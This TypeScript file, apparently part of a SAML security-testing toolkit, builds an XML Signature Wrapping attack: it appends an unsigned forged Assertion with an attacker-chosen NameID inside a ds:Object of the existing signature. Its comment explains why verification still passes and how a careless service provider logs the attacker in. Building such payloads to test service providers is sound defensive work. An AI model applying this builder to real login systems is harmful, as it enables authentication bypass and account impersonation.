/*
 * Assertion in a ds:Object of the signature (Somorovsky et al., "On Breaking SAML", USENIX Security 2012, §4;
 * the placement of XSW8, without touching the signed content): an unsigned evil Assertion (the attacker's NameID,
 * a fresh ID) goes into a ds:Object appended to the outermost ds:Signature (the Response's when it is signed,
 * else the Assertion's). The enveloped-signature transform removes the whole Signature before digesting, so every
 * signature still verifies. In document order the evil NameID now comes first: an SP that reads the first
 * Assertion or NameID it finds signs the attacker in. saml-core §5.4 profiles XML-DSig with one enveloped
 * Reference; an Object has no role in a SAML signature.
 */
import { idpError } from '../errors.ts';
import { NS } from '../namespaces.ts';
import { parseXml, serialize } from '../xml.ts';
import { evilCopy, genuineAssertion, signatureOf } from './evil-assertion.ts';

export function assertionInSignatureObject(xml: string, attackerNameId: string): string {
  const doc = parseXml(xml, 'signed Response');
  const response = doc.documentElement!;
  const genuine = genuineAssertion(response, 'assertionInSignatureObject');
  const signature = signatureOf(response) ?? signatureOf(genuine);
  if (!signature) throw idpError('builder/invalid', 'assertionInSignatureObject needs a signed Response or Assertion');
  const object = doc.createElementNS(NS.ds, 'ds:Object');
  object.appendChild(evilCopy(genuine, attackerNameId));
  signature.appendChild(object);
  return serialize(doc);
}
